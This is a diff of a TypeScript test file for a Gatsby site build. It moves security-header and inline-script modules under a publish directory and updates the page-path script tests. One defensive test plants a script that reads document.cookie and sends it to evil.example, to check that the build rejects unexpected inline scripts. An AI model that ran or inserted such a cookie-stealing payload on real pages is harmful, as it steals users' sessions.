@@ -12,11 +12,11 @@ import {
   redirectsText,
   scriptPolicyProblems,
   writeCdnFiles,
-} from "../../src/node/cdn-files"
+} from "../../src/node/publish/headers-and-redirects"
 import { samePagePathScript, samePagePathScriptInEveryPage } from "../../gatsby/internals/page-path-script"
-import { inlineScripts, scriptHash } from "../../src/node/inline-scripts"
-import { inlineScript } from "../../src/node/inline-script-build"
-import { cmsOpenerPolicy, cmsPolicy, policyText } from "../../src/node/security-headers"
+import { htmlPages, inlineScripts, scriptHash } from "../../src/node/publish/inline-scripts"
+import { inlineScript } from "../../src/node/publish/inline-script-build"
+import { cmsOpenerPolicy, cmsPolicy, policyText } from "../../src/node/publish/security-headers"
 import { cmsRoute } from "../../src/model/routes"
 import { redirectRoutes } from "../../src/registry"
 
@@ -34,6 +34,8 @@ const chunkMapping = (mapping = "{}") =>
   `<script id="gatsby-chunk-mapping">\n  window.___chunkMapping=${JSON.stringify(mapping)};\n</script>`
 
 const noticesScript = inlineScript("notices")
+/** The page-path script, as the build compiles it and gives it to the rewrite. */
+const pagePathCode = inlineScript("page-path")
 
 const page = (pagePath: string, extra = "", mapping = "{}") =>
   [
@@ -69,7 +71,7 @@ const files: Record<string, string> = {
   "cms/index.html": '<!doctype html><html><body><script src="/cms/react-18.3.1.js"></script></body></html>',
   "cms/react-18.3.1.js": "react",
   [`cms/cms-${hash20}.js`]: "cms",
-  // The search index (src/node/search-index.ts): Pagefind's own files keep their names, its chunks are hashed.
+  // The search index (src/node/publish/search-index.ts): Pagefind's own files keep their names, its chunks are hashed.
   "pagefind/pagefind.js": "pf",
   "pagefind/preload.json": "{}",
   "pagefind/pagefind-entry.json": "{}",
@@ -91,7 +93,7 @@ afterEach(() => fs.rmSync(publicDir, { recursive: true, force: true }))
 
 /** As the build does: the page-path script made one for every page, then the files. */
 const write = (options = { googleMaps: false }) => {
-  samePagePathScriptInEveryPage(publicDir)
+  samePagePathScriptInEveryPage(publicDir, htmlPages(publicDir), pagePathCode)
   writeCdnFiles(publicDir, options)
 }
 const read = (file: string) => fs.readFileSync(path.join(publicDir, file), "utf8")
@@ -109,7 +111,7 @@ test("only the scripts a browser runs from the page itself are inline scripts", 
 })
 
 test("the script that names the page reads the name from its attribute, the same text in every page", () => {
-  const pages = ["/", "/news/", '/a"&<b/'].map(pagePath => samePagePathScript(page(pagePath)))
+  const pages = ["/", "/news/", '/a"&<b/'].map(pagePath => samePagePathScript(page(pagePath), pagePathCode))
   const scripts = pages.map(html => inlineScripts(html)[1])
   expect(new Set(scripts).size).toBe(1)
   // Run as the browser would: window.pagePath is what Gatsby wrote.
@@ -125,8 +127,10 @@ test("the script that names the page reads the name from its attribute, the same
     new Function("window", "document", scripts[0])(window, document)
     expect(window.pagePath).toBe(pagePath)
   }
-  expect(samePagePathScript(pages[1])).toBe(pages[1])
-  expect(() => samePagePathScript('<script id="gatsby-script-loader">window.other=1</script>', "x.html")).toThrow(
+  expect(samePagePathScript(pages[1], pagePathCode)).toBe(pages[1])
+  expect(() =>
+    samePagePathScript('<script id="gatsby-script-loader">window.other=1</script>', pagePathCode, "x.html"),
+  ).toThrow(
     /Gatsby internals: .*page-path script.*assumption 10.*, but x\.html has <script id="gatsby-script-loader">window\.other=1/,
   )
 })
@@ -149,7 +153,7 @@ test("a page carrying an inline script the build does not mean to emit stops the
   const injected = "window.stolen=document.cookie;fetch('https://evil.example/'+window.stolen)"
   fs.writeFileSync(path.join(publicDir, "news/index.html"), page("/news/", `<script>${injected}</script>`))
   expect(() => write()).toThrow(
-    `inline scripts the build does not mean to emit (src/node/known-scripts.ts):\n  public/news/index.html: ${JSON.stringify(injected.slice(0, 60))}`,
+    `inline scripts the build does not mean to emit (src/node/publish/known-scripts.ts):\n  public/news/index.html: ${JSON.stringify(injected.slice(0, 60))}`,
   )
   expect(fs.existsSync(path.join(publicDir, "_headers"))).toBe(false)
 })
